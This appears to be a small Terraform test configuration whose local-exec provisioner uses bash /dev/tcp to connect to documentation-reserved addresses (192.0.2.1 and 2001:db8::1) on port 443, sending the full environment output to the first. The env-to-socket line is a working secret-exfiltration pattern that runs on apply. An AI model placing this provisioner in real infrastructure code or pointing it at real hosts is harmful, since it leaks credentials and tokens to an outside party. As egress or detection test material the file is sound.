resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      (exec 3<>/dev/tcp/192.0.2.1/443 && env >&3 && echo REACHED)
      (exec 3<>/dev/tcp/2001:db8::1/443 && echo REACHED)
      echo tried
    EOT
  }
}
